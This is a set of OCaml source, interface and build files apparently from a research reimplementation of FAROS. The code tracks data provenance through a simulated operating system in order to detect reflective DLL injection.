  { img_name; base; entry; sections; imports; exports }

(* Total mapped span of the image, page-rounded. *)
let mapped_pages t =
  let page = Faros_vm.Phys_mem.page_size in
  let hi =
    List.fold_left
      (fun acc s -> max acc (s.sec_vaddr + String.length s.sec_data))
      (t.base + 1) t.sections
  in
  (hi - t.base + page - 1) / page
