(* Round-robin scheduler over the kernel's run queue.

   Each entry is a pid; terminated and suspended processes are dropped when
   encountered (resume re-enqueues).  Determinism matters: the schedule is a
   pure function of kernel state, which is what makes whole-system replay
   exact without recording scheduling decisions. *)

(* Pop the next runnable process, rotating it to the back of the queue. *)
let rec next (k : Kstate.t) : Process.t option =
  match k.run_queue with
  | [] -> None
  | pid :: rest -> (
    match Kstate.proc k pid with
    | Some p when Process.is_ready p ->
      k.run_queue <- rest @ [ pid ];
      Some p
    | Some _ | None ->
      k.run_queue <- rest;
      next k)

let runnable_count (k : Kstate.t) =
  List.length
    (List.filter
       (fun pid ->
         match Kstate.proc k pid with
         | Some p -> Process.is_ready p
         | None -> false)
       k.run_queue)
