(** Filesystem syscall handlers — the hooks FAROS's file-tag insertion
    driver intercepts.  Reads and writes report the guest-side physical
    addresses so provenance can flow through files (Fig. 4's File 1
    hop). *)

type handler := Kstate.t -> Process.t -> int array -> int

val create_file : handler
val open_file : handler
val read_file : handler
val write_file : handler
val close : handler
val delete_file : handler
val query_size : handler
val set_position : handler
val query_directory : handler
val flush_buffers : handler
val query_attributes : handler
