(* Loader and device syscalls. *)

let err = -1 land Faros_vm.Word.mask
let max_io = 1 lsl 16

(* r1 = name ptr, r2 = name len.  Loads a DLL image file into the caller's
   address space; this is the benign Windows loading path the reflective
   technique bypasses.  Returns the module base. *)
let load_library (k : Kstate.t) (p : Process.t) args =
  let name = Kstate.read_guest_string k p args.(0) args.(1) in
  match List.assoc_opt name p.modules with
  | Some img -> img.Pe.base
  | None -> (
    if not (Fs.exists k.fs name) then err
    else
      let f = Fs.open_file k.fs name in
      let image_bytes = Bytes.to_string (Fs.read f ~offset:0 ~len:(Bytes.length f.data)) in
      match Pe.parse image_bytes with
      | exception Pe.Bad_image _ -> err
      | image ->
        let loaded = Loader.load k.machine.mmu p.space k.exports image in
        p.modules <- (name, image) :: p.modules;
        List.iter
          (fun (_, paddrs) ->
            if paddrs <> [] then
              Kstate.emit k
                (Os_event.File_read
                   {
                     pid = p.pid;
                     path = name;
                     version = f.version;
                     offset = 0;
                     dst_paddrs = paddrs;
                   }))
          loaded.ld_section_paddrs;
        Kstate.emit k
          (Os_event.Module_loaded { pid = p.pid; image = image.img_name; base = image.base });
        image.base)

(* r1 = name ptr, r2 = name len.  Kernel-side symbol resolution: looks up
   kernel exports first, then the caller's loaded modules.  The process
   never touches the export directory itself. *)
let get_proc_address (k : Kstate.t) (p : Process.t) args =
  let name = Kstate.read_guest_string k p args.(0) args.(1) in
  match List.assoc_opt name k.exports.exports with
  | Some addr -> addr
  | None ->
    let rec scan = function
      | [] -> err
      | (_, img) :: rest -> (
        match List.assoc_opt name img.Pe.exports with
        | Some addr -> addr
        | None -> scan rest)
    in
    scan p.modules

(* Returns the next scripted keystroke (0 when exhausted). *)
let key_read (k : Kstate.t) (p : Process.t) _ =
  let key = Input_dev.read_key k.input in
  if key <> 0 then Kstate.emit k (Os_event.Key_read { pid = p.pid; key });
  key

(* r1 = buf, r2 = len *)
let audio_record (k : Kstate.t) (p : Process.t) args =
  let len = args.(1) in
  if len <= 0 || len > max_io then err
  else begin
    Kstate.write_guest_bytes k p args.(0) (Input_dev.read_audio k.input len);
    Kstate.emit k (Os_event.Audio_read { pid = p.pid; bytes = len });
    len
  end

(* r1 = buf, r2 = len *)
let screenshot (k : Kstate.t) (p : Process.t) args =
  let len = args.(1) in
  if len <= 0 || len > max_io then err
  else begin
    Kstate.write_guest_bytes k p args.(0) (Input_dev.read_frame k.input len);
    Kstate.emit k (Os_event.Screenshot { pid = p.pid; bytes = len });
    len
  end

(* r1 = text ptr, r2 = len *)
let popup (k : Kstate.t) (p : Process.t) args =
  let text = Kstate.read_guest_string k p args.(0) (min args.(1) max_io) in
  Kstate.emit k (Os_event.Popup { pid = p.pid; text });
  0

(* r1 = text ptr, r2 = len *)
let debug_print (k : Kstate.t) (p : Process.t) args =
  let text = Kstate.read_guest_string k p args.(0) (min args.(1) max_io) in
  Kstate.emit k (Os_event.Debug_print { pid = p.pid; text });
  0
