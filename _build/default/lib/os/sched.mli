(** Round-robin scheduler over the kernel's run queue.

    Determinism matters: the schedule is a pure function of kernel state,
    which is what makes whole-system replay exact without recording
    scheduling decisions. *)

val next : Kstate.t -> Process.t option
(** Pop the next runnable process, rotating it to the back; drops
    terminated/suspended entries encountered on the way. *)

val runnable_count : Kstate.t -> int
