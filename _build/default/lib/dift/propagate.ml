(* The three propagation primitives of Table I, over abstract locations.

       copy(a, b)      prov(a) <- prov(b)
       union(a, b, c)  prov(a) <- prov(b) U prov(c)
       delete(a)       prov(a) <- {}

   The engine expresses every instruction's taint semantics in terms of
   these; keeping them as a separate, directly-testable module pins the
   reproduction to the paper's Table I. *)

type loc = Mem of int  (* physical byte *) | Reg of int * int  (* asid, reg *)

let get shadow = function
  | Mem paddr -> Shadow.get_mem shadow paddr
  | Reg (asid, r) -> Shadow.get_reg shadow ~asid r

let set shadow loc prov =
  match loc with
  | Mem paddr -> Shadow.set_mem shadow paddr prov
  | Reg (asid, r) -> Shadow.set_reg shadow ~asid r prov

(* copy(a, b): a takes b's provenance (MOV, STR, LD). *)
let copy shadow ~dst ~src = set shadow dst (get shadow src)

(* union(a, b, c): a takes the union (AND, OR, MUL, ...). *)
let union shadow ~dst ~src1 ~src2 =
  set shadow dst (Provenance.union (get shadow src1) (get shadow src2))

(* delete(a): a's provenance is cleared (MOVI, XOR r,r). *)
let delete shadow loc = set shadow loc Provenance.empty
