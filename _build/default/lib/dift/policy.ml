(* Propagation policies.

   The paper's position (Section IV) is that indirect flows cannot be
   handled once and for all: propagating address/control dependencies
   overtaints, ignoring them undertaints, and the escape is to decide per
   security policy.  These knobs reproduce the design space — FAROS's
   default (direct flows only, detection by tag confluence), the
   overtainting variants used for the Fig. 1 / Fig. 2 experiments, the
   Minos heuristics, and classic single-bit DIFT. *)

type t = {
  policy_name : string;
  address_deps : bool;  (* propagate base/index register taint into loads/stores *)
  address_dep_widths : int list option;
      (* [Some ws]: only for accesses of these widths (Minos: 8/16-bit) *)
  control_deps : bool;  (* tainted flags taint writes in the influenced region *)
  control_dep_window : int;  (* instructions a tainted branch influences *)
  taint_immediates : bool;
      (* immediates inherit the provenance of their own code bytes (Minos) *)
  single_bit : bool;  (* collapse detection to tainted/untainted *)
  track_files : bool;
      (* insert file tags on file I/O; classic DIFT systems taint network
         input only, so the 1-bit and Minos presets turn this off *)
}

(* FAROS: direct flows only; indirect flows handled by the detection policy
   (tag confluence), not by propagation. *)
let faros_default =
  {
    policy_name = "faros";
    address_deps = false;
    address_dep_widths = None;
    control_deps = false;
    control_dep_window = 0;
    taint_immediates = false;
    single_bit = false;
    track_files = true;
  }

(* Propagate address dependencies everywhere: the overtainting end of the
   dilemma (Fig. 1's lookup-table copy stays tainted — and so does almost
   everything else). *)
let with_address_deps =
  { faros_default with policy_name = "address-deps"; address_deps = true }

(* Additionally track control dependencies in a bounded window after a
   tainted conditional (Fig. 2's bit-by-bit copy). *)
let with_control_deps =
  {
    faros_default with
    policy_name = "control-deps";
    control_deps = true;
    control_dep_window = 32;
  }

let with_all_indirect =
  {
    with_control_deps with
    policy_name = "all-indirect";
    address_deps = true;
  }

(* Minos heuristics: address dependencies only for 8- and 16-bit accesses,
   immediates tainted, single-bit tags. *)
let minos =
  {
    policy_name = "minos";
    address_deps = true;
    address_dep_widths = Some [ 1; 2 ];
    control_deps = false;
    control_dep_window = 0;
    taint_immediates = true;
    single_bit = true;
    track_files = false;
  }

(* Classic 1-bit whole-system DIFT: direct flows, no provenance meaning. *)
let bit_taint =
  {
    faros_default with
    policy_name = "bit-taint";
    single_bit = true;
    track_files = false;
  }

let all = [ faros_default; with_address_deps; with_control_deps; with_all_indirect; minos; bit_taint ]

let address_dep_applies t ~width =
  t.address_deps
  &&
  match t.address_dep_widths with None -> true | Some ws -> List.mem width ws
