lib/dift/policy.ml: List
