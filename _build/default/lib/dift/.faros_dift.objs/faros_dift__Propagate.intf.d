lib/dift/propagate.mli: Provenance Shadow
