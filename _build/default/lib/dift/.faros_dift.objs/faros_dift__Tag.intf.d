lib/dift/tag.mli: Fmt
