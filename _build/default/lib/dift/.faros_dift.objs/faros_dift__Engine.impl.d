lib/dift/engine.ml: Array Faros_os Faros_vm Fun Hashtbl Lazy List Policy Provenance Shadow Tag_store
