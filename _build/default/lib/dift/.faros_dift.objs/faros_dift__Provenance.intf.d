lib/dift/provenance.mli: Fmt Tag
