lib/dift/tag_store.ml: Faros_os Hashtbl Tag
