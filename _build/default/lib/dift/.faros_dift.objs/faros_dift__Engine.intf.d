lib/dift/engine.mli: Faros_os Faros_vm Hashtbl Policy Provenance Shadow Tag_store
