lib/dift/tag_store.mli: Faros_os Tag
