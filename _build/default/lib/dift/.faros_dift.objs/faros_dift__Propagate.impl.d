lib/dift/propagate.ml: Provenance Shadow
