lib/dift/provenance.ml: Fmt List Tag
