lib/dift/block_engine.ml: Engine Faros_vm List Policy
