lib/dift/shadow.mli: Provenance
