lib/dift/shadow.ml: Faros_vm Hashtbl Provenance
