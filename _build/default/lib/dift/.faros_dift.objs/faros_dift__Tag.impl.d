lib/dift/tag.ml: Bytes Char Fmt Printf String
