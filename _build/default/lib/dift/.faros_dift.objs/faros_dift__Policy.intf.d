lib/dift/policy.mli:
