lib/dift/block_engine.mli: Engine Faros_os Faros_vm Policy
