(** The three propagation primitives of Table I, over abstract locations:

    {v
      copy(a, b)      prov(a) <- prov(b)
      union(a, b, c)  prov(a) <- prov(b) U prov(c)
      delete(a)       prov(a) <- {}
    v}

    The engine expresses every instruction's taint semantics in terms of
    these; keeping them as a separate, directly-testable module pins the
    reproduction to the paper's Table I. *)

type loc =
  | Mem of int  (** a physical byte *)
  | Reg of int * int  (** (address-space id, register) *)

val get : Shadow.t -> loc -> Provenance.t
val set : Shadow.t -> loc -> Provenance.t -> unit

val copy : Shadow.t -> dst:loc -> src:loc -> unit
(** copy(a, b): the destination takes the source's provenance (MOV, STR,
    LD). *)

val union : Shadow.t -> dst:loc -> src1:loc -> src2:loc -> unit
(** union(a, b, c): the destination takes the union (AND, OR, MUL, ...). *)

val delete : Shadow.t -> loc -> unit
(** delete(a): the location's provenance is cleared (MOVI, XOR r,r). *)
