(** Provenance tags.

    Four tag types, as in the paper (Section V-A): netflow (the byte arrived
    on a network connection), process (a process touched the byte; the
    payload is its CR3), file (the byte passed through a file), and
    export-table (the byte belongs to the kernel region where
    linking/loading information lives).

    Every tag carries a 16-bit index into the corresponding hash map of
    {!Tag_store}.  The paper's implementation left the export-table tag
    payload-free and listed per-function information as future work; this
    implementation includes that extension, so an export-table tag
    identifies {e which} exported function's pointer was touched. *)

type t = Netflow of int | Process of int | File of int | Export_table of int

(** Tag types, the granularity at which the confluence policy reasons. *)
type ty = Ty_netflow | Ty_process | Ty_file | Ty_export

val ty : t -> ty

val type_byte : t -> int
(** First byte of the prov_tag wire format (Fig. 6): 1 = netflow, 2 = file,
    3 = process, 4 = export-table. *)

val index : t -> int
(** The tag's index into its {!Tag_store} hash map. *)

exception Bad_prov_tag of string

val encode : t -> string
(** [encode t] is the 3-byte prov_tag of Fig. 6: type byte followed by the
    16-bit index, little-endian.  Raises {!Bad_prov_tag} if the index does
    not fit in 16 bits. *)

val decode : string -> t
(** Inverse of {!encode}.  Raises {!Bad_prov_tag} on malformed input. *)

val equal : t -> t -> bool
val pp : t Fmt.t
