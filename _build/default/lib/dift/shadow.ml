(* Shadow state: provenance for guest memory, registers and flags.

   Shadow memory is keyed by *physical* address and is byte granular; an
   absent entry means empty provenance.  Shadow registers are per address
   space (one guest CPU per process) at whole-register granularity — a
   documented simplification over the paper's byte-granular memory.
   Shadow flags feed the control-dependency policy. *)

type t = {
  mem : (int, Provenance.t) Hashtbl.t;  (* paddr -> provenance *)
  regs : (int, Provenance.t) Hashtbl.t;  (* asid * num_regs + reg *)
  flags : (int, Provenance.t) Hashtbl.t;  (* asid -> provenance *)
}

let create () =
  { mem = Hashtbl.create 4096; regs = Hashtbl.create 64; flags = Hashtbl.create 8 }

let get_mem t paddr =
  match Hashtbl.find_opt t.mem paddr with Some p -> p | None -> Provenance.empty

let set_mem t paddr prov =
  if Provenance.is_empty prov then Hashtbl.remove t.mem paddr
  else Hashtbl.replace t.mem paddr prov

let reg_key asid reg = (asid * Faros_vm.Isa.num_regs) + reg

let get_reg t ~asid reg =
  match Hashtbl.find_opt t.regs (reg_key asid reg) with
  | Some p -> p
  | None -> Provenance.empty

let set_reg t ~asid reg prov =
  if Provenance.is_empty prov then Hashtbl.remove t.regs (reg_key asid reg)
  else Hashtbl.replace t.regs (reg_key asid reg) prov

let get_flags t ~asid =
  match Hashtbl.find_opt t.flags asid with Some p -> p | None -> Provenance.empty

let set_flags t ~asid prov =
  if Provenance.is_empty prov then Hashtbl.remove t.flags asid
  else Hashtbl.replace t.flags asid prov

(* Union of the provenance of [width] bytes starting at [paddr]. *)
let get_mem_range t paddr width =
  let rec go i acc =
    if i >= width then acc
    else go (i + 1) (Provenance.union acc (get_mem t (paddr + i)))
  in
  go 0 Provenance.empty

let set_mem_range t paddr width prov =
  for i = 0 to width - 1 do
    set_mem t (paddr + i) prov
  done

let tainted_bytes t = Hashtbl.length t.mem
let tainted_regs t = Hashtbl.length t.regs

let iter_mem t f = Hashtbl.iter f t.mem

let clear t =
  Hashtbl.reset t.mem;
  Hashtbl.reset t.regs;
  Hashtbl.reset t.flags
