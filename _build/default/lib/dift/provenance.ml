(* Provenance lists (Fig. 4): ordered tag lists, newest first.

   A byte's provenance is its life story: "came from this netflow, was
   touched by this process, then that one".  Lists are immutable and share
   structure, so the copy rule of Table I is O(1).  A length cap bounds the
   memory an adversary could force by generating enormous tag chains (the
   paper's "exhaust FAROS' memory" evasion); the cap drops the *oldest*
   entries, preserving recent history and type membership of recent tags. *)

type t = Tag.t list

let empty : t = []
let is_empty (p : t) = p = []

let max_length = 64

let cap p = if List.length p <= max_length then p else List.filteri (fun i _ -> i < max_length) p

(* Prepend a tag; skipped if it is already the head (so hot loops do not
   grow lists) or already present anywhere for process tags re-touching. *)
let prepend tag (p : t) : t =
  match p with
  | head :: _ when Tag.equal head tag -> p
  | _ -> cap (tag :: p)

(* Order-preserving union: tags of [b] not already in [a], appended after
   [a] (Table I's union rule). *)
let union (a : t) (b : t) : t =
  if is_empty b then a
  else if is_empty a then cap b
  else cap (a @ List.filter (fun tb -> not (List.exists (Tag.equal tb) a)) b)

let mem tag (p : t) = List.exists (Tag.equal tag) p

let has_type ty (p : t) = List.exists (fun tag -> Tag.ty tag = ty) p

let has_netflow p = has_type Tag.Ty_netflow p
let has_export p = has_type Tag.Ty_export p
let has_file p = has_type Tag.Ty_file p

(* Distinct process-tag indices, oldest last (list order preserved). *)
let process_indices (p : t) =
  List.filter_map (function Tag.Process i -> Some i | _ -> None) p
  |> List.fold_left (fun acc i -> if List.mem i acc then acc else i :: acc) []
  |> List.rev

let netflow_indices (p : t) =
  List.filter_map (function Tag.Netflow i -> Some i | _ -> None) p
  |> List.fold_left (fun acc i -> if List.mem i acc then acc else i :: acc) []
  |> List.rev

let file_indices (p : t) =
  List.filter_map (function Tag.File i -> Some i | _ -> None) p
  |> List.fold_left (fun acc i -> if List.mem i acc then acc else i :: acc) []
  |> List.rev

(* Tag confluence (Section IV): number of distinct tag *types* present. *)
let distinct_types (p : t) =
  List.sort_uniq compare (List.map Tag.ty p)

let confluence p = List.length (distinct_types p)

let pp ppf (p : t) = Fmt.(list ~sep:(any " -> ") Tag.pp) ppf p
