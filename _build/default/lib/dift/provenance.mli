(** Provenance lists (Fig. 4): ordered tag lists, newest first.

    A byte's provenance is its life story — "came from this netflow, was
    touched by this process, then that one".  Lists are immutable and share
    structure, so Table I's copy rule is O(1).  {!max_length} bounds the
    memory an adversary could force by generating enormous tag chains (the
    "exhaust FAROS' memory" evasion of Section VI-D); the cap drops the
    oldest entries. *)

type t = Tag.t list

val empty : t
val is_empty : t -> bool

val max_length : int
(** Upper bound on list length; prepend/union enforce it. *)

val prepend : Tag.t -> t -> t
(** [prepend tag p] puts [tag] at the head (newest position).  A no-op when
    [tag] is already the head, so hot loops do not grow lists. *)

val union : t -> t -> t
(** Table I's union: [union a b] keeps [a]'s order and appends the tags of
    [b] not already present. *)

val mem : Tag.t -> t -> bool
val has_type : Tag.ty -> t -> bool
val has_netflow : t -> bool
val has_export : t -> bool
val has_file : t -> bool

val process_indices : t -> int list
(** Distinct process-tag indices, newest first. *)

val netflow_indices : t -> int list
val file_indices : t -> int list

val distinct_types : t -> Tag.ty list

val confluence : t -> int
(** Number of distinct tag {e types} present — the "tag confluence" of
    Section IV that the detection policy keys on. *)

val pp : t Fmt.t
