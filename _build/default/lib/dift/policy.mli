(** Propagation policies.

    The paper's position (Section IV) is that indirect flows cannot be
    handled once and for all: propagating address/control dependencies
    overtaints, ignoring them undertaints, and the escape is to decide per
    security policy.  These knobs span the design space — FAROS's default
    (direct flows only, detection by tag confluence), the overtainting
    variants used for the Fig. 1 / Fig. 2 experiments, the Minos
    heuristics, and classic single-bit DIFT. *)

type t = {
  policy_name : string;
  address_deps : bool;
      (** propagate base/index register taint into loads/stores *)
  address_dep_widths : int list option;
      (** [Some ws]: address deps only for accesses of these widths
          (Minos: 8/16-bit) *)
  control_deps : bool;
      (** tainted flags taint writes in the influenced window *)
  control_dep_window : int;
      (** instructions a tainted conditional influences *)
  taint_immediates : bool;
      (** immediates inherit the provenance of their own code bytes (Minos) *)
  single_bit : bool;  (** collapse detection to tainted/untainted *)
  track_files : bool;
      (** insert file tags on file I/O; classic DIFT systems taint network
          input only, so the 1-bit and Minos presets turn this off *)
}

val faros_default : t
(** Direct flows only; indirect flows are handled by the detection policy
    (tag confluence), not by propagation. *)

val with_address_deps : t
(** Address dependencies everywhere: the overtainting end of the dilemma. *)

val with_control_deps : t
(** Bounded control-dependency windows after tainted conditionals. *)

val with_all_indirect : t

val minos : t
(** The Minos heuristics (Crandall & Chong): address dependencies for 8- and
    16-bit accesses only, tainted immediates, single-bit tags, network-only
    sources. *)

val bit_taint : t
(** Classic 1-bit whole-system DIFT. *)

val all : t list

val address_dep_applies : t -> width:int -> bool
