(* Provenance tags.

   Four tag types, as in the paper: netflow (the byte arrived on a network
   connection), process (a process touched the byte; payload is the CR3),
   file (the byte passed through a file), and export-table (the byte belongs
   to the kernel region where linking/loading information lives).

   All four tag types carry an index into the corresponding hash map of
   {!Tag_store} (Fig. 5).  The paper's implementation left the export-table
   tag payload-free and listed per-function information as future work
   (Section V-A); we implement that extension, so an export-table tag
   identifies *which* exported function's pointer was touched. *)

type t = Netflow of int | Process of int | File of int | Export_table of int

type ty = Ty_netflow | Ty_process | Ty_file | Ty_export

let ty = function
  | Netflow _ -> Ty_netflow
  | Process _ -> Ty_process
  | File _ -> Ty_file
  | Export_table _ -> Ty_export

(* prov_tag wire format (Fig. 6): one type byte, two index bytes. *)
let type_byte = function
  | Netflow _ -> 1
  | File _ -> 2
  | Process _ -> 3
  | Export_table _ -> 4

let index = function
  | Netflow i | Process i | File i | Export_table i -> i

exception Bad_prov_tag of string

let encode t =
  let i = index t in
  if i < 0 || i > 0xFFFF then raise (Bad_prov_tag (Printf.sprintf "index %d" i));
  let b = Bytes.create 3 in
  Bytes.set b 0 (Char.chr (type_byte t));
  Bytes.set b 1 (Char.chr (i land 0xFF));
  Bytes.set b 2 (Char.chr ((i lsr 8) land 0xFF));
  Bytes.to_string b

let decode s =
  if String.length s <> 3 then raise (Bad_prov_tag "length");
  let i = Char.code s.[1] lor (Char.code s.[2] lsl 8) in
  match Char.code s.[0] with
  | 1 -> Netflow i
  | 2 -> File i
  | 3 -> Process i
  | 4 -> Export_table i
  | b -> raise (Bad_prov_tag (Printf.sprintf "type byte %d" b))

let equal (a : t) b = a = b

let pp ppf = function
  | Netflow i -> Fmt.pf ppf "netflow#%d" i
  | Process i -> Fmt.pf ppf "process#%d" i
  | File i -> Fmt.pf ppf "file#%d" i
  | Export_table i -> Fmt.pf ppf "export-table#%d" i
