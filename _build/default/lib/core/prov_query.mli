(** Post-analysis provenance queries.

    The report answers "was there an injection"; these helpers answer the
    analyst's follow-ups: where tainted data sits, in which processes,
    carrying which tag types. *)

type region_taint = {
  rt_pid : Faros_os.Types.pid;
  rt_process : string;
  rt_vaddr : int;  (** start of the contiguous tainted run *)
  rt_len : int;
  rt_types : Faros_dift.Tag.ty list;  (** union over the run *)
  rt_sample : Faros_dift.Provenance.t;  (** provenance of the first byte *)
}

val ty_name : Faros_dift.Tag.ty -> string

val regions_of_process :
  Faros_plugin.t -> Faros_os.Process.t -> region_taint list
(** Contiguous tainted runs in one process's user-space mappings. *)

val tainted_regions : Faros_plugin.t -> region_taint list

val summary_by_process : Faros_plugin.t -> (string * int * int) list
(** Per process: (name, tainted bytes, bytes carrying netflow taint). *)

(** A printable run found inside netflow-tainted memory. *)
type tainted_string = {
  ts_process : string;
  ts_vaddr : int;
  ts_text : string;
  ts_prov : Faros_dift.Provenance.t;
}

val strings : ?min_len:int -> Faros_plugin.t -> tainted_string list
(** Provenance-aware [strings]: printable runs (length >= [min_len],
    default 4) in netflow-tainted memory, each with the provenance of its
    first byte — "this string came off that wire, through those
    processes". *)

val pp_region : faros:Faros_plugin.t -> region_taint Fmt.t
