(* Whitelisting.

   FAROS's only false positives come from JIT compilers, whose behaviour is
   legitimately injection-shaped: code arrives over the network and is
   linked and loaded against export tables.  The paper's remedy is an
   analyst-maintained whitelist of well-known JIT hosts. *)

let jit_default = [ "java.exe"; "jvm.exe"; "dotnet.exe" ]

let is_whitelisted ~whitelist process_name =
  List.exists (String.equal process_name) whitelist
