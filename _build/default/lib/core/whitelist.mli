(** Whitelisting.

    FAROS's only false positives come from JIT compilers, whose behaviour is
    legitimately injection-shaped: code arrives over the network and is
    linked and loaded against export tables.  The paper's remedy is an
    analyst-maintained whitelist of well-known JIT hosts. *)

val jit_default : string list
(** Well-known JIT host process names (JVM, .NET). *)

val is_whitelisted : whitelist:string list -> string -> bool
