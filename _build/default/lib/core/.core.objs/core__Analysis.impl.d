lib/core/analysis.ml: Config Faros_plugin Faros_replay Report
