lib/core/prov_query.ml: Bytes Char Faros_dift Faros_os Faros_plugin Faros_vm Fmt List Option Report String
