lib/core/config.ml: Faros_dift
