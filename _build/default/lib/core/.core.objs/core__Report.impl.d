lib/core/report.ml: Buffer Char Faros_dift Faros_os Faros_vm Fmt List Printf String
