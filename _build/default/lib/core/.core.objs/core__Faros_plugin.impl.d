lib/core/faros_plugin.ml: Config Detector Faros_dift Faros_os Faros_replay Faros_vm Option Report
