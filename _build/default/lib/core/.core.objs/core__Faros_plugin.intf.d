lib/core/faros_plugin.mli: Config Detector Faros_dift Faros_os Faros_replay Format Report
