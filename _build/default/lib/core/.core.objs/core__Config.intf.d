lib/core/config.mli: Faros_dift
