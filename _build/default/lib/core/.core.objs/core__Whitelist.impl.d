lib/core/whitelist.ml: List String
