lib/core/analysis.mli: Config Faros_os Faros_plugin Faros_replay Report
