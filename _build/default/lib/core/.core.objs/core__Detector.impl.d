lib/core/detector.ml: Config Faros_dift List Report Whitelist
