lib/core/whitelist.mli:
