lib/core/prov_query.mli: Faros_dift Faros_os Faros_plugin Fmt
