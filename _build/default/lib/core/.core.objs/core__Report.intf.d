lib/core/report.mli: Faros_dift Faros_vm Fmt
