lib/core/detector.mli: Config Faros_dift Report
