(* Post-analysis provenance queries.

   The report answers "was there an injection"; these helpers answer the
   analyst's follow-ups: where is tainted data sitting right now, in which
   processes, carrying which tag types — the "visibility into how
   information flows in a live system" the paper sells DIFT for. *)

type region_taint = {
  rt_pid : Faros_os.Types.pid;
  rt_process : string;
  rt_vaddr : int;  (* start of the contiguous tainted run *)
  rt_len : int;
  rt_types : Faros_dift.Tag.ty list;  (* union over the run *)
  rt_sample : Faros_dift.Provenance.t;  (* provenance of the first byte *)
}

let ty_name = function
  | Faros_dift.Tag.Ty_netflow -> "netflow"
  | Ty_process -> "process"
  | Ty_file -> "file"
  | Ty_export -> "export-table"

(* Walk one process's mapped memory and coalesce contiguous tainted bytes
   into runs. *)
let regions_of_process (faros : Faros_plugin.t) (p : Faros_os.Process.t) =
  let mmu = faros.kernel.machine.mmu in
  let shadow = faros.engine.shadow in
  let asid = Faros_os.Process.asid p in
  let runs = ref [] in
  let flush start len types sample =
    if len > 0 then
      runs :=
        {
          rt_pid = p.pid;
          rt_process = p.proc_name;
          rt_vaddr = start;
          rt_len = len;
          rt_types = List.sort_uniq compare types;
          rt_sample = sample;
        }
        :: !runs
  in
  List.iter
    (fun (vaddr, size) ->
      let start = ref 0 and len = ref 0 in
      let types = ref [] and sample = ref Faros_dift.Provenance.empty in
      for i = 0 to size - 1 do
        let paddr = Faros_vm.Mmu.translate mmu ~asid (vaddr + i) in
        let prov = Faros_dift.Shadow.get_mem shadow paddr in
        if Faros_dift.Provenance.is_empty prov then begin
          flush !start !len !types !sample;
          len := 0;
          types := [];
          sample := Faros_dift.Provenance.empty
        end
        else begin
          if !len = 0 then begin
            start := vaddr + i;
            sample := prov
          end;
          incr len;
          types := Faros_dift.Provenance.distinct_types prov @ !types
        end
      done;
      flush !start !len !types !sample)
    (Faros_vm.Mmu.mapped_ranges p.space
    |> List.filter (fun (vaddr, _) -> vaddr < Faros_os.Export_table.kernel_base));
  List.rev !runs

let tainted_regions (faros : Faros_plugin.t) =
  List.concat_map (regions_of_process faros) (Faros_os.Kstate.processes faros.kernel)

(* Per process: (name, tainted bytes, bytes carrying netflow taint). *)
let summary_by_process (faros : Faros_plugin.t) =
  List.map
    (fun (p : Faros_os.Process.t) ->
      let regions = regions_of_process faros p in
      let total = List.fold_left (fun acc r -> acc + r.rt_len) 0 regions in
      let netflow =
        List.fold_left
          (fun acc r ->
            if List.mem Faros_dift.Tag.Ty_netflow r.rt_types then acc + r.rt_len
            else acc)
          0 regions
      in
      (p.proc_name, total, netflow))
    (Faros_os.Kstate.processes faros.kernel)

(* Provenance-aware `strings`: printable runs inside netflow-tainted
   memory, each with the provenance of its first byte.  The classic
   forensic tool, upgraded: not just "this string is in memory" but "this
   string came off that wire, through those processes". *)
type tainted_string = {
  ts_process : string;
  ts_vaddr : int;
  ts_text : string;
  ts_prov : Faros_dift.Provenance.t;
}

let printable c = Char.code c >= 0x20 && Char.code c < 0x7F

let strings ?(min_len = 4) (faros : Faros_plugin.t) =
  let mmu = faros.kernel.machine.mmu in
  let results = ref [] in
  List.iter
    (fun (r : region_taint) ->
      if List.mem Faros_dift.Tag.Ty_netflow r.rt_types then begin
        let p =
          Option.get (Faros_os.Kstate.proc faros.kernel r.rt_pid)
        in
        let asid = Faros_os.Process.asid p in
        let data =
          Bytes.to_string (Faros_vm.Mmu.read_bytes mmu ~asid r.rt_vaddr r.rt_len)
        in
        let flush start stop =
          if stop - start >= min_len then begin
            let paddr = Faros_vm.Mmu.translate mmu ~asid (r.rt_vaddr + start) in
            let prov = Faros_dift.Shadow.get_mem faros.engine.shadow paddr in
            if Faros_dift.Provenance.has_netflow prov then
              results :=
                {
                  ts_process = r.rt_process;
                  ts_vaddr = r.rt_vaddr + start;
                  ts_text = String.sub data start (stop - start);
                  ts_prov = prov;
                }
                :: !results
          end
        in
        let start = ref (-1) in
        String.iteri
          (fun idx c ->
            if printable c then (if !start < 0 then start := idx)
            else begin
              if !start >= 0 then flush !start idx;
              start := -1
            end)
          data;
        if !start >= 0 then flush !start (String.length data)
      end)
    (tainted_regions faros);
  List.rev !results

let pp_region ~(faros : Faros_plugin.t) ppf r =
  Fmt.pf ppf "%-20s 0x%08X +%-6d [%s]  %s" r.rt_process r.rt_vaddr r.rt_len
    (String.concat "," (List.map ty_name r.rt_types))
    (Report.render_provenance ~store:faros.engine.store
       ~name_of_asid:(Faros_plugin.name_of_asid faros.kernel)
       r.rt_sample)
