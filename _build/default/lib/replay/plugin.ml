(* PANDA-style plugin API.

   A plugin is a set of callbacks over the execution: per-instruction hooks
   (what PANDA exposes via LLVM/TCG instrumentation), syscall hooks (the
   syscalls2 plugin) and OS-introspection hooks (the OSI / Win7x86intro
   plugin).  Plugins attach to a kernel; the FAROS analysis and the Cuckoo
   baseline are both plugins. *)

type t = {
  name : string;
  on_exec : (Faros_vm.Cpu.t -> Faros_vm.Cpu.effect -> unit) option;
  on_os_event : (Faros_os.Os_event.t -> unit) option;
}

let make ?on_exec ?on_os_event name = { name; on_exec; on_os_event }

let attach (kernel : Faros_os.Kernel.t) plugin =
  (match plugin.on_exec with
  | Some f -> Faros_vm.Machine.add_exec_hook kernel.machine f
  | None -> ());
  match plugin.on_os_event with
  | Some f -> Faros_os.Kernel.subscribe kernel f
  | None -> ()

let attach_all kernel plugins = List.iter (attach kernel) plugins
