(* Recorded non-deterministic input.

   Everything else in the guest is deterministic (pure-function scheduler,
   synthetic devices, no wall clock), so a trace of network arrivals and
   keystrokes is sufficient to replay a whole-system execution exactly —
   the property PANDA's record/replay provides the paper.  The trace also
   carries integrity metadata so the replayer can detect divergence. *)

type event = Packet of Faros_os.Types.flow * string | Key of int

type t = {
  events : event list;  (* in arrival order *)
  final_tick : int;  (* instruction count when recording stopped *)
  syscall_count : int;
}

let empty = { events = []; final_tick = 0; syscall_count = 0 }

(* All payload chunks received on [flow], in order. *)
let rx_chunks t flow =
  List.filter_map
    (function
      | Packet (f, data) when Faros_os.Types.flow_equal f flow -> Some data
